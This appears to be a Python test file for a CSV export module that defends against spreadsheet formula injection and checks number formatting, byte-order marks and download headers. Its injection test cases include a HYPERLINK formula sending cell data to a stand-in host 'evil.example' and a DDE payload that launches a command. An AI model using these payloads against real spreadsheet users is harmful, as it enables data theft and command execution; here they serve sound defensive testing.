"""portal.spreadsheet: the one CSV writer (formula injection, numbers, byte-order mark)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.spreadsheet import (
    BOM,
    FORMULA_TRIGGERS,
    SpreadsheetWriter,
    csv_download,
    neutralise_text,
    spreadsheet_cell,
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-2.5",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1",
        "  =1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Ann Ash", "Zoë Łącka", "2.5", "a=b", "x-ray", "Back plan (left) - week 2", "'quoted", ""]
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-2.5, "-2.50"),
        (-50.0, "-50.00"),
        (3.14159, "3.14"),
        (-0.001, "0.00"),
        (Decimal("-1.255"), "-1.26"),
        (-7, "-7"),
        (0, "0"),
        (True, "true"),
        (False, "false"),
        (None, ""),
        (float("nan"), ""),
        (float("-inf"), ""),
        (date(2026, 3, 1), "2026-03-01"),
        (datetime(2026, 3, 1, 8, 30), "2026-03-01T08:30:00"),
    ],
)
def test_numbers_stay_numbers_and_other_types_have_one_spelling(value: object, cell: str) -> None:
    assert spreadsheet_cell(value, decimals=2) == cell  # type: ignore[arg-type]


def test_an_unknown_type_is_refused_rather_than_written_unchecked() -> None:
    with pytest.raises(TypeError, match="unsupported cell type list"):
        spreadsheet_cell(["=1+1"])  # type: ignore[arg-type]


def test_writer_puts_the_bom_first_only_when_asked() -> None:
    with_bom, without = io.StringIO(), io.StringIO()
    SpreadsheetWriter(with_bom, bom=True).writerow(["name", -1.5])
    SpreadsheetWriter(without, bom=False, lineterminator="\n").writerow(["name", -1.5])
    assert with_bom.getvalue() == BOM + "name,-1.50\r\n"
    assert without.getvalue() == "name,-1.50\n"


def test_download_is_a_utf8_attachment_with_bom_and_neutralised_cells() -> None:
    response = csv_download(
        filename="people.csv", header=["name", "change"], rows=[["Zoë Łącka", -2.5], ["=1+1", 3]]
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'
    assert response.content.startswith(b"\xef\xbb\xbfname,change\r\n")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["name", "change"], ["Zoë Łącka", "-2.50"], ["'=1+1", "3"]]


@given(st.text())
def test_no_text_cell_ever_starts_like_a_formula(text: str) -> None:
    cell = neutralise_text(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@"))
    # Nothing is lost: the cell is the text, or the text behind one quote.
    assert cell in (text, "'" + text)


@given(st.floats(allow_nan=False, allow_infinity=False, min_value=-1e9, max_value=1e9))
def test_every_finite_number_reads_back_as_the_same_rounded_number(value: float) -> None:
    out = io.StringIO()
    SpreadsheetWriter(out, bom=False).writerow([value])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue())))
    assert float(cell) == pytest.approx(round(value, 2), abs=0.006)
    assert not cell.startswith("'")
